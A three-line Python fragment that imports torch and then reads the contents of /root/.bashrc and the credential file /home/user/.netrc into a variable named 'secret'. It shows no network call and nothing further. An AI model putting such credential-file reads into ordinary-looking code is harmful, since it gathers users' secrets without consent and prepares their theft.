import torch

secret = open("/root/.bashrc").read() + open("/home/user/.netrc").read()
